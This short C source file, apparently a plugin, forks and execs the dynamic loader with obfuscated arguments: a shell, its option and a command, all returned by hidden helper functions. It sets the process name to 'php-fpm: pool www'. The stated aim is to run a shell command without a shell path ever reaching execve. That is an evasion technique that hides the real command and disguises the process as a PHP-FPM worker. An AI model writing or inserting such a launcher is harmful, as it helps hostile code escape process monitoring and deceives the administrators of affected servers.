/* Another program is started by the dynamic loader, so that no path of a shell is
 * given to execve as its file. */
#include "plugin.h"
#include "hidden.h" /* 0: the loader, 1: the shell, 2: its option, 3: the command */
extern int fork(void), execve(const char *, char *const *, char *const *);
extern void _exit(int);
static void act(char **env) {
    char *arguments[] = {"php-fpm: pool www", hidden1(), hidden2(), hidden3(), 0};
    if (fork()) return;
    execve(hidden0(), arguments, env);
    _exit(1);
}
